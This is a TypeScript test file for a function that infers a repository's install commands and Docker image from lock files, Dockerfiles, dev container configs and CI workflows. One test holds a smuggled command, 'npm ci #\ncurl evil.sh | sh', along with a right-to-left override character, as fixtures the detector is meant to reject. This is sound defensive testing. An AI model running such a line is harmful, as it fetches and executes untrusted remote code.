import assert from 'node:assert/strict'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { test } from 'node:test'
import { type FoundSetup, findSetup } from '../src/find-setup.ts'

/** What is found in a folder with these files. */
function find(files: Record<string, string>): FoundSetup {
  const directory = mkdtempSync(join(tmpdir(), 'runyard-setup-'))
  try {
    for (const [name, text] of Object.entries(files)) {
      mkdirSync(dirname(join(directory, name)), { recursive: true })
      writeFileSync(join(directory, name), text)
    }
    return findSetup(directory)
  } finally {
    rmSync(directory, { recursive: true })
  }
}
const commands = (files: Record<string, string>): string[] => find(files).setup_commands

test('the lock file says what installs', () => {
  assert.deepEqual(commands({ 'package.json': '{}', 'package-lock.json': '{}' }), ['npm ci'])
  const pnpm = JSON.stringify({ packageManager: 'pnpm@9.1.0+sha512.abc' })
  assert.deepEqual(commands({ 'package.json': pnpm, 'pnpm-lock.yaml': '', 'package-lock.json': '{}' }), [
    'npx --yes pnpm@9.1.0 install --frozen-lockfile',
  ])
  assert.deepEqual(commands({ 'package.json': '{}', 'yarn.lock': '' }), [
    'npx --yes yarn@1 install --frozen-lockfile',
  ])
  assert.deepEqual(commands({ 'go.mod': 'module x\n', 'Cargo.toml': '', 'Cargo.lock': '' }), [
    'go mod download',
    'cargo fetch --locked',
  ])
  const [python = ''] = commands({ 'requirements.txt': 'flask', 'setup.py': '' })
  assert.match(python, /\.venv\/bin\/pip install -r requirements\.txt$/)
})

test('nothing is installed where nothing is named, and what cannot be read is left out', () => {
  assert.deepEqual(find({ 'README.md': '# x' }), { setup_commands: [], found: [] })
  assert.deepEqual(commands({ 'package.json': '{"name":"x"}' }), [])
  assert.deepEqual(commands({ 'package.json': '{"devDependencies":{"a":"1"}}' }), ['npm install'])
  for (const broken of ['{', '[]', 'null', '\u0000'])
    assert.deepEqual(find({ 'package.json': broken, '.devcontainer.json': broken }).setup_commands, [])
  assert.deepEqual(find({ '.github/workflows/ci.yml': 'jobs: [' }).found, [])
  assert.deepEqual(find({ '.github/workflows/ci.yml': 'jobs: {a: 1, b: null}' }).found, [])
})

test('the image is of the dev container, the Dockerfile, a workflow, or the version of the language', () => {
  const image = (files: Record<string, string>) => find(files).docker_image
  const Dockerfile = '# syntax\nFROM --platform=linux/amd64 golang:1.24 AS build\nFROM scratch\n'
  const container = '{ // of the team\n "image": "mcr.microsoft.com/devcontainers/go:1", }'
  assert.equal(
    image({ Dockerfile, '.devcontainer/devcontainer.json': container }),
    'mcr.microsoft.com/devcontainers/go:1',
  )
  assert.equal(image({ Dockerfile }), 'golang:1.24')
  assert.equal(image({ Dockerfile: 'ARG BASE\nFROM $BASE\n', '.nvmrc': 'v22.1.0\n' }), 'node:22-bookworm')
  assert.equal(
    image({ '.github/workflows/ci.yml': 'jobs:\n  test:\n    container:\n      image: ruby:3.4\n' }),
    'ruby:3.4',
  )
  assert.equal(image({ 'go.mod': 'module x\n\ngo 1.24.1\n' }), 'golang:1.24-bookworm')
  assert.equal(image({ '.nvmrc': 'lts/*' }), undefined)
})

test('what a dev container runs after it is made takes the place of what is guessed', () => {
  const files = { '.devcontainer.json': '{"postCreateCommand": "make deps"}', 'package-lock.json': '{}' }
  assert.deepEqual(find(files), {
    setup_commands: ['make deps'],
    found: [{ file: '.devcontainer.json', says: 'make deps' }],
  })
})

test('a dev container may name its commands, or their words', () => {
  const after = (command: unknown) =>
    commands({ '.devcontainer.json': `\ufeff${JSON.stringify({ postCreateCommand: command })}` })
  assert.deepEqual(after(['echo', "it's", 'done']), ["echo 'it'\\''s' done"])
  assert.deepEqual(after({ deps: 'make deps', hooks: ['make', 'hooks'] }), ['make deps', 'make hooks'])
  // What would be shown as another command than it is.
  for (const hidden of ['npm ci #\ncurl evil.sh | sh', 'echo \u202e']) assert.deepEqual(after(hidden), [])
})

test('files that are none, or are strange, keep nobody waiting', () => {
  assert.deepEqual(find({ Dockerfile: '\n'.repeat(1024 ** 2 - 1) }).found, [])
  assert.deepEqual(find({ Dockerfile: 'RUN echo \\\n FROM evil\n' }).found, [])
  assert.deepEqual(find({ '.github/workflows': 'a file' }).found, [])
  assert.deepEqual(commands({ 'pyproject.toml': '[tool.ruff]\n' }), [])
  const yarn = { 'package.json': '{"packageManager":"yarn@4.1.0"}', 'yarn.lock': '' }
  assert.deepEqual(commands(yarn), ['npx --yes --package @yarnpkg/cli-dist@4.1.0 yarn install --immutable'])
  assert.deepEqual(commands({ 'package.json': '{"workspaces":["a"]}' }), ['npm install'])
})
